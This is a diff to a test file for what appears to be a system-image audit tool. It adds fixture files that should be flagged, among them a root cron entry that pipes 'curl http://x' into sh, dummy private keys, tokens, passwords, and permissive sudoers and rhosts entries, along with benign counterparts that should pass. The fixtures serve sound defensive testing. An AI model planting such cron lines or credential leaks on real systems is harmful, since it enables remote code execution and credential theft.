@@ -95,6 +95,50 @@ LEFT: dict[str, str] = {
     "/core.123": "x",
     "/var/lib/systemd/coredump/core.bash.0": "x",
     "/swapfile": "x",
+    "/etc/cron.d/site": "* * * * * root curl http://x | sh\n",
+    "/etc/cron.daily/site": "#!/bin/sh\ncurl http://x\n",
+    "/usr/local/etc/server.key": PEM.format("", ""),
+    "/usr/share/site/key.pem": PEM.format("RSA ", "RSA "),
+    "/boot/key.pem": PEM.format("RSA ", "RSA "),
+    "/data/key.pem": PEM.format("RSA ", "RSA "),
+    "/etc/sysconfig/rhn/systemid": "<x/>",
+    "/etc/pki/entitlement/1.pem": "x",
+    "/etc/NetworkManager/system-connections/wifi.nmconnection": "[wifi-security]\npsk=hunter2\n",
+    "/etc/fstab": "//srv/x /mnt cifs username=a,password=b 0 0\n",
+    "/root/.smbcredentials": "username=a\npassword=b\n",
+    "/etc/xdg/pip/pip.conf": "[global]\nindex-url=https://a:b@pypi.example/\n",
+    "/root/.env": "TOKEN=abc\n",
+    "/srv/app/.env": "SECRET_KEY=abc\n",
+    "/opt/app/config.env": "DB_PASSWORD=abc\n",
+    "/root/.zshrc": "export TOKEN=abc\n",
+    "/etc/bash.bashrc": "export TOKEN=abc\n",
+    "/etc/profile": "export TOKEN=abc\n",
+    "/etc/systemd/system/x.service": "[Service]\nEnvironment=AWS_SECRET_ACCESS_KEY=abc\n",
+    "/etc/systemd/system.conf.d/10.conf": '[Manager]\nDefaultEnvironment="TOKEN=abc"\n',
+    "/root/.config/rclone/rclone.conf": "[x]\npass = abc\n",
+    "/home/debian/.pgpass": "host:5432:d:u:p\n",
+    "/root/.vault-token": "x",
+    "/root/.npmrc": "//registry.example/:_authToken=abc\n",
+    "/root/.cargo/credentials.toml": "x",
+    "/etc/sssd/sssd.conf": "ldap_default_authtok = x\n",
+    "/etc/wireguard/wg0.conf": "PrivateKey = abc\n",
+    "/etc/chrony/chrony.keys": "1 SHA1 HEX:ABCD\n",
+    "/etc/cloud/cloud.cfg.d/99-user.cfg": "chpasswd:\n  list: root:abc\n",
+    "/etc/cloud/cloud.cfg.d/curtin.cfg": "datasource: {NoCloud: {userdata: x}}\n",
+    "/etc/gitlab-runner/config.toml": "x",
+    "/etc/hosts.equiv": "+\n",
+    "/root/.rhosts": "+ +\n",
+    "/etc/doas.conf": "permit nopass lab\n",
+    "/etc/sudoers.bak": "lab ALL=(ALL) NOPASSWD: ALL\n",
+    "/etc/shadow.rpmsave": "root:$6$a$b:1::::::\n",
+    "/var/lib/hyperv/.kvp_pool_1": "x",
+    "/etc/hostname": "builder-17\n",
+    "/etc/salt/minion_id": "builder-17",
+    "/var/lib/snapd/assertions/asserts-v0/serial/x/active": "x",
+    "/etc/multipath/wwids": "# Multipath wwids\n/3600508b4/\n",
+    "/etc/site/tool.yaml": "key: ghp_abcdefghijklmnopqrstuvwxyz0123456789\n",
+    "/home/debian/notes": "AKIAIOSFODNN7EXAMPLE\n",
+    "/etc/site/storage": "AccountKey=abcdefghijklmnop==;\n",
 }
 HARMLESS: dict[str, str] = {
     "/etc/machine-id": "uninitialized\n",
@@ -116,13 +160,24 @@ HARMLESS: dict[str, str] = {
     "/etc/profile.d/agent.sh": '# TOKEN=x\nexport SSH_TOKEN="$(cat token)"\n',
     "/var/spool/cron/atjobs/.SEQ": "00000\n",
     "/opt/mvapich-stack/software/Python/lib/test/keycert.pem": PEM.format("", ""),
+    "/etc/cron.d/e2scrub_all": "30 3 * * 0 root run-one e2scrub\n",  # a package's, see OWNED
+    "/usr/share/bash/example.key": PEM.format("", ""),
+    "/etc/chrony/chrony.keys": "# 1 SHA1 HEX:ABCD\n",
+    "/etc/multipath/wwids": "# Multipath wwids, Version : 1.0\n",
+    "/etc/hostname": "localhost\n",
+    "/etc/fstab": "UUID=x / ext4 errors=remount-ro 0 1\n",
+    "/etc/cloud/cloud.cfg": "system_info:\n  default_user:\n    lock_passwd: True\n",
+    "/etc/passwd.org": "root:x:0:0::/:/bin/sh\n",
+    "/etc/systemd/system/x.service": "[Service]\nEnvironment=LANG=C\nExecStart=/bin/true\n",
 }
+OWNED = "/etc/cron.d/e2scrub_all\n/usr/share/bash/example.key\n/usr/share/doc/ssh/example.key\n"
 
 
 def test_a_generalised_tree_passes(tmp_path: Path) -> None:
     root = debian(tmp_path)
     for path, content in HARMLESS.items():
         put(root, path, content)
+    put(root, "/var/lib/dpkg/info/bash.list", OWNED)
     assert audit(root) == []
 
 
